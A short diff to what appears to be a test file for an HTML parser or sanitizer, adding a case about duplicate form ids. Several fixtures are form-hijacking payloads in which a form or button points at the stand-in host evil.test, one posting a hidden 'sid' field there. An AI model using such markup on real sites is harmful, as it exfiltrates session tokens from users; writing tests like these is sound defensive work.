@@ -608,6 +608,11 @@ rows('marker: forms and templates that end each other', [
     '<form><select></form><input><form><button formaction=/own>',
     '<form>[H]<select></form><input><form><button formaction=/own?§>',
   ],
+  // Controls mean the first form of an id.
+  [
+    '<form id=f action=//evil.test></form><form id=f>a</form><input type=hidden name=sid form=f><button form=f formmethod=post>',
+    '<form id=f action=//evil.test></form><form id=f>[H]a</form><input type=hidden name=sid form=f><button form=f formmethod=post>',
+  ],
   // The end tag ends the form of SVG, not the one around it.
   ['<form>a<svg><form></form></svg><button formaction=//evil.test></form>', '='],
   [
